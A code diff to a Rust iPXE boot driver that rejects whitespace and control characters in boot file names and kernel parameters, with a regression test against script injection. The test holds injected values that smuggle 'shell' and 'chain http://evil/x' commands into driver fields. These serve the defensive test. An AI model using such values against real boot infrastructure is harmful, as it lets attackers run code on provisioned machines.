@@ -47,6 +47,14 @@ fn hexhyp(mac: &str) -> String {
 
 /// A URL for `name`: itself when it is one, else a file under the boot server's root.
 pub fn boot_file_url(http_url: &str, name: &str) -> Result<String, DriverError> {
+    // The name goes into an iPXE script line: whitespace would add arguments, a line break
+    // commands.
+    if name.chars().any(|c| c.is_whitespace() || c.is_control()) {
+        return Err(DriverError::InvalidParameter(format!(
+            "{name:?} is not a usable boot file: URLs and file names cannot contain spaces or \
+             control characters."
+        )));
+    }
     if name.starts_with("http://") || name.starts_with("https://") {
         return Ok(name.to_owned());
     }
@@ -153,6 +161,12 @@ impl IpxeBoot {
         .into_iter()
         .chain(extra.iter().map(String::as_str))
         {
+            if extra.chars().any(char::is_control) {
+                return Err(DriverError::InvalidParameter(format!(
+                    "kernel_append_params {extra:?} must be one line of kernel parameters, \
+                     without control characters."
+                )));
+            }
             if !extra.is_empty() {
                 append.push(' ');
                 append.push_str(extra);
@@ -317,5 +331,32 @@ mod tests {
         assert!(boot_file_url(base, "../etc/passwd").is_err());
         assert!(boot_file_url(base, "file:///etc/passwd").is_err());
         assert!(boot_file_url(base, "").is_err());
+    }
+
+    /// Found while writing the `pxe_inputs` fuzz target: `driver_info` values went into the per-MAC
+    /// script verbatim, so a line break in one added iPXE commands.
+    #[test]
+    fn driver_info_cannot_add_lines_to_the_script() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let boot = boot(dir.path());
+        let mac = boot.macs[0].clone();
+        for (key, value) in [
+            ("deploy_kernel", "http://x/k\nshell"),
+            ("deploy_ramdisk", "images/r d"),
+            ("kernel_append_params", "a=b\r\nchain http://evil/x"),
+        ] {
+            let mut node = Node::new(Uuid::new_v4(), "fake-hardware", ProvisionState::Deploying);
+            node.driver_info.insert(key.to_owned(), value.into());
+            let error = boot.ramdisk_script(&node, &mac).unwrap_err();
+            assert!(
+                matches!(error, DriverError::InvalidParameter(_)),
+                "{key}: {error}"
+            );
+        }
+        let mut node = Node::new(Uuid::new_v4(), "fake-hardware", ProvisionState::Deploying);
+        node.driver_info
+            .insert("kernel_append_params".to_owned(), "nofb nomodeset".into());
+        let script = boot.ramdisk_script(&node, &mac).expect("a script");
+        assert_eq!(script.lines().count(), 9, "{script}");
     }
 }
